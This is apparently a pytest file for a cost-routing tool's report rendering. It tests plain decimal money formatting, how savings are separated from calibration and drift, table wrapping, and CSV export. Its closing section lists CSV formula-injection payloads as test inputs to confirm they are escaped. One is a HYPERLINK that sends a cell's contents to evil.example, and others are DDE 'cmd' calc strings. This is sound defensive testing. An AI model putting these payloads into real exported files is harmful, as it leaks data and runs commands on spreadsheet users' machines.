"""Money that reads right, without a database: the one formatter (plain decimals, never an exponent,
the same digits whatever scale a backend hands over), savings that do not count calibration and drift
checks as losses, tables that fold rather than cut a figure, and CSV cells that cannot run as formulas.

The same figures against real SQLite and Postgres ledgers: tests/integration/test_money_reads_right.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date
from decimal import Decimal
from types import SimpleNamespace

import pytest
from rich.console import Console

from router.catalog import Rate
from router.cli import views
from router.ledger.tables import BudgetPeriod
from router.reports.monthly import BudgetRow, Report, ReportRow
from router.reports.render import (
    COLUMNS,
    csv_text,
    exact,
    plain,
    render_budget_table,
    render_csv,
    render_html,
    render_json,
    render_table,
    savings_note,
    short_money,
    usd,
    usd_exact,
)

D = Decimal
# One amount as each backend hands it over: SQLite keeps the text it was given, Postgres NUMERIC(20, 10).
SAME_AMOUNT = (D("0.00001590"), D("0.0000159000"), D("1.59E-5"), "0.0000159", D("0.000015900000000"))


def _text(renderable: object, width: int = 200) -> str:
    console = Console(record=True, width=width, highlight=False)
    console.print(renderable)
    return console.export_text()


# -- plain decimals, one formatter, the same digits ------------------------------------------------


@pytest.mark.parametrize(
    ("amount", "places", "expected"),
    [
        (D("5E+2"), None, "$500.00"),
        (D("5E+2"), 6, "$500.000000"),
        (D("1234567.891"), None, "$1,234,567.89"),
        (D("0.5"), None, "$0.50"),
        (D("0.054"), None, "$0.054"),
        (D("0.0000159"), None, "$0.000016"),  # two significant digits, never $1.6E-5
        (D("0.00000000090"), None, "$0.0000000009"),
        (D("1.2E-9"), 6, "$0.0000000012"),  # too small for 6 places: two significant digits, not $0.000000
        (D("0.0000159"), 6, "$0.000016"),
        (D("0.012"), 6, "$0.012000"),
        (D("0"), None, "$0"),
        (D("-0"), 6, "$0.000000"),
        (D("-0.0016"), None, "-$0.0016"),  # the sign in front of the symbol
        (D("-1118.4"), None, "-$1,118.40"),
        (None, None, "-"),
    ],
)
def test_usd_reads_as_plain_decimals(amount: Decimal | None, places: int | None, expected: str) -> None:
    assert usd(amount, places) == expected


def test_no_formatter_prints_an_exponent() -> None:
    for amount in (D("5E+2"), D("1E+6"), D("1.2E-9"), D("7E-10"), D("-3E-8"), D("0E-10"), D("1.00E+3")):
        for text in (plain(amount), exact(amount), usd(amount), usd(amount, 4), usd(amount, 6), usd_exact(amount)):
            assert "E" not in text.upper(), (amount, text)
        assert "E" not in usd(amount, currency="EUR").replace("EUR", "")
    assert (
        short_money(D("1.5E+3")) == "$1.5k" and short_money(D("3E+6")) == "$3M" and short_money(D("5E-4")) == "$0.0005"
    )


@pytest.mark.parametrize("places", [None, 2, 4, 6])
def test_every_scale_of_one_amount_prints_the_same_digits(places: int | None) -> None:
    assert len({usd(a, places) for a in SAME_AMOUNT}) == 1
    assert {plain(a) for a in SAME_AMOUNT} == {"0.0000159000"}  # the ledger's 10 places
    assert {exact(a) for a in SAME_AMOUNT} == {"0.0000159"}
    assert {usd_exact(a) for a in SAME_AMOUNT} == {"$0.0000159000"}


def test_exact_is_the_amount_as_typed() -> None:
    assert [exact(a) for a in (D("5E+2"), D("500.0000000000"), D("499.99"), D("0.00000015"), D("1E-7"), D(0))] == [
        "500",
        "500",
        "499.99",
        "0.00000015",
        "0.0000001",
        "0",
    ]
    assert plain(D("-0E-10")) == "0.0000000000" and plain(D("12.5")) == "12.5000000000"
    assert plain(D("0.000000000012345")) == "0.000000000012345"  # padded, never rounded
    assert plain(D("0.000000000012340000")) == "0.000000000012340"[:-1]  # zeros past the 10th place are text


def test_other_currencies_use_the_same_rules() -> None:
    assert usd(D("4.5"), currency="EUR") == "4.50 EUR"
    assert usd(D("0.0000001123"), currency="EUR") == "0.00000011 EUR"  # not "0.00 EUR"
    assert usd_exact(D("-4.5"), currency="EUR") == "-4.5000000000 EUR"


# -- savings against the baseline; calibration and drift apart --------------------------------------

# A team whose month was all calibration (a job stopped after testing models): $0.0118 spent, no run
# item, so no baseline. And one whose run items saved, with a little calibration and drift.
CHECKS_ONLY = ReportRow("research", D("0.0118"), 40, 0, 4000, 0, 200, D(0), D("0.0118"), D(0))
SAVER = ReportRow(
    "growth", D("0.0300"), 300, 0, 30000, 0, 3000, D(0), D("0.0100"), D("0.2000"), drift_spend_usd=D("0.0050")
)
TOTAL = ReportRow(
    "TOTAL", D("0.0418"), 340, 0, 34000, 0, 3200, D(0), D("0.0218"), D("0.2000"), drift_spend_usd=D("0.0050")
)


def _report(*rows: ReportRow, totals: ReportRow = TOTAL, budgets: tuple[BudgetRow, ...] = ()) -> Report:
    return Report(
        month="2026-10",
        tenant="acme",
        by="team",
        first_day=date(2026, 10, 1),
        last_day=date(2026, 10, 31),
        rows=rows,
        totals=totals,
        budgets=budgets,
        spend_by_day=tuple(ReportRow(f"2026-10-{d:02}") for d in range(1, 32)),
        spend_by_team=rows,
        spend_by_model=(),
    )


def test_savings_compare_run_items_with_their_baseline() -> None:
    assert SAVER.run_spend_usd == D("0.0150") and SAVER.checks_spend_usd == D("0.0150")
    assert SAVER.savings_usd == D("0.1850") and SAVER.savings_pct == D("92.5")
    assert SAVER.net_savings_usd == D("0.1700")  # all in
    assert CHECKS_ONLY.run_spend_usd == 0 and CHECKS_ONLY.savings_pct is None  # no baseline: nothing saved or lost


def test_a_calibration_only_team_shows_no_negative_saving() -> None:
    report = _report(SAVER, CHECKS_ONLY)
    out = _text(render_table(report))
    assert not re.search(r"-\d[\d,.]*%", out), out  # no "saved -1118%"
    assert "$0.012" in out and "$0.005" in out  # calibration and drift figures, in their own columns
    assert "92.50%" in out  # the team that saved
    assert "against each job's baseline model" in out  # the headline says what the saving is against
    rows = {r[0]: dict(zip(("team", *COLUMNS), r, strict=True)) for r in csv.reader(io.StringIO(render_csv(report)))}
    assert (
        rows["research"]["savings_usd"] == rows["research"]["savings_pct"] == rows["research"]["net_savings_usd"] == ""
    )
    assert rows["research"]["calibration_spend_usd"] == "0.0118000000"
    assert rows["growth"]["savings_usd"] == "0.1850000000" and rows["growth"]["savings_pct"] == "92.50"
    doc = json.loads(render_json(report))
    research = next(r for r in doc["rows"] if r["key"] == "research")
    assert research["savings_usd"] is None and research["savings_pct"] is None and research["net_savings_usd"] is None
    assert doc["totals"]["run_spend_usd"] == "0.0150000000" and doc["totals"]["drift_spend_usd"] == "0.0050000000"


def test_the_all_in_figure_is_said_in_words() -> None:
    assert savings_note(TOTAL).endswith(
        "All in: $0.042 spent against $0.20 on the baselines, 79% less than the baseline."
    )
    small = ReportRow("TOTAL", D("0.0500"), 10, 0, 10, 0, 10, D(0), D("0.0450"), D("0.0100"))
    assert "5.0x the baseline" in savings_note(small) and "-" not in savings_note(small).replace("drift", "")
    assert savings_note(CHECKS_ONLY) == "No run items to compare with a baseline model this month."


def test_the_page_names_the_baseline_and_lists_the_checks_apart() -> None:
    page = render_html(_report(SAVER, CHECKS_ONLY))
    assert "Run items saved vs baseline model" in page and "Calibration and drift checks" in page
    assert 'class="card good"' in page and 'class="card bad"' not in page
    assert "$0.1850000000 exactly" in page  # the run items' saving, exact on hover
    assert not re.search(r">-\d[\d,.]*%<", page)


# -- tables never hide a figure ---------------------------------------------------------------------


@pytest.mark.parametrize("width", [60, 80, 120])
def test_report_tables_fold_rather_than_cut(width: int) -> None:
    long_key = "a-team-with-a-rather-long-name-indeed"
    row = ReportRow(long_key, D("12345.6789012345"), 1234567, 1, 123456789, 0, 98765432, D("0.0000000123"), D("0.0123"))
    budget = BudgetRow("acme", long_key, "EUR", D("500"), D("0.0000001123"), D("499.99"))
    report = _report(row, totals=row, budgets=(budget,))
    for table in (render_table(report), render_budget_table(report)):
        out = _text(table, width)
        assert "…" not in out and "..." not in out, out
        assert max(len(line) for line in out.splitlines()) <= width, out
        if width >= 120:
            assert "a-team-with-a-rather-long-name-indeed" in out and ("$12,345.68" in out or "EUR" in out)


def test_cli_tables_fold_rather_than_cut() -> None:
    rows = [
        SimpleNamespace(
            tenant="acme",
            team="growth",
            period_start=date(2026, 10, 1),
            limit_amount=D("5E+2"),
            currency="USD",
            settled=D("612.1234567891"),
            reserved=D("0"),
            soft_pct=80.0,
            soft_alerted_at=None,
        )
    ]
    wide = _text(views.budget_table(rows, month="2026-10"))
    assert "5E+2" not in wide and " 500 " in wide and "$612.123457" in wide and "122.42% (over)" in wide
    narrow = _text(views.budget_table(rows, month="2026-10"), 50)
    assert "…" not in narrow and "..." not in narrow


# -- budget set and the quality report --------------------------------------------------------------


def _period(limit: str, settled: str, currency: str = "USD") -> BudgetPeriod:
    return BudgetPeriod(
        team_id=1,
        period_start=date(2026, 12, 1),
        limit_amount=D(limit),
        currency=currency,
        settled=D(settled),
        reserved=D(0),
        soft_pct=80.0,
    )


def test_budget_set_says_the_limit_as_typed_and_when_the_month_is_over() -> None:
    fine = views.budget_set_text("growth", _period("5E+2", "12.5"))
    assert fine == "team growth: 500 USD a month, alert at 80%; 2026-12 so far: settled $12.500000, reserved $0.000000"
    over = views.budget_set_text("growth", _period("0.001", "0.0025"))
    assert "team growth: 0.001 USD a month" in over
    assert "over[/]: the team already spent $0.002500 this month, 250.00% of the new limit" in over
    assert "nothing more runs until 2027-01-01 or a higher limit" in over
    assert "0.000000 EUR" in views.budget_set_text("legal", _period("5", "0", currency="EUR"))


def _job(**changes: object) -> SimpleNamespace:
    job = {
        "id": "j1",
        "min_quality": 0.9,
        "route": {},
        "calibration": {},
        "model_id": "gpt-4o-mini",
        "baseline_model_id": "gemini-2.5-pro",
        "n_drift_checked": 0,
        "n_drift_agreed": 0,
    }
    return SimpleNamespace(**{**job, **changes})


def test_quality_report_keeps_calibration_out_of_the_savings() -> None:
    # A small job: calibration cost far more than the run items saved (the "saved -1118%" case).
    facts = {
        "answered": {"gpt-4o-mini": 30},
        "calls": [
            ("calibration", "gpt-4o", 200, D("0.0620")),
            ("drift", "gemini-2.5-pro", 1, D("0.0004")),
            ("run", "gpt-4o-mini", 30, D("0.0002")),
        ],
        "baseline_usd": D("0.0050"),
    }
    out = " ".join(_text(views.quality_report(_job(), facts, []), 400).split())
    assert "vs baseline │ run items $0.000200 against $0.005000 on the baseline model gemini-2.5-pro: 96% saved" in out
    assert "checks │ calibration and drift checks $0.062400, to choose and watch the route" in out
    assert "all in $0.062600: 12.5x the baseline; calibration pays for itself on larger jobs" in out
    assert not re.search(r"-\d+%", out)


def test_calibration_table_and_catalog_prices_are_plain() -> None:
    summary = {
        "mode": "gold",
        "sample": 10,
        "spent_usd": "1.2E-5",
        "routes": [
            {"name": "m", "n": 10, "right": 9, "mean": 0.9, "lower": 0.5, "upper": 0.99, "usd_per_item": "1.2E-6"}
        ],
        "message": "",
    }
    out = _text(views.calibration_table(summary))
    assert "$0.000012" in out and "$0.0000012" in out and "E-" not in out
    tiered = Rate(D("1.25E+0"), ((200_000, D("2.5")),))
    assert views.rate_text(tiered) == "1.25 (>200,000: 2.5)" and views.rate_text(Rate(D("1E-7"))) == "0.0000001"


# -- CSV that a spreadsheet cannot run --------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_text_cells_that_start_like_formulas_are_neutralized(name: str) -> None:
    assert csv_text(name) == "'" + name
    # More spend than the baseline: a negative saving, which must stay a number.
    row = ReportRow(name, D("0.002"), 1, 0, 10, 0, 1, D(0), D(0), D("0.001"))
    header, first, _total = csv.reader(io.StringIO(render_csv(_report(row, totals=replace(row, key="TOTAL")))))
    cells = dict(zip(header, first, strict=True))
    assert cells["team"] == "'" + name  # the text survives, behind a quote
    assert cells["savings_usd"] == "-0.0010000000" and D(cells["savings_usd"]) == D("-0.001")  # a number, unquoted


@pytest.mark.parametrize("name", ["growth", "2026-10-01", "gpt-4o-mini", "a=b", "team-1", "'quoted", ""])
def test_csv_leaves_ordinary_text_alone(name: str) -> None:
    assert csv_text(name) == name
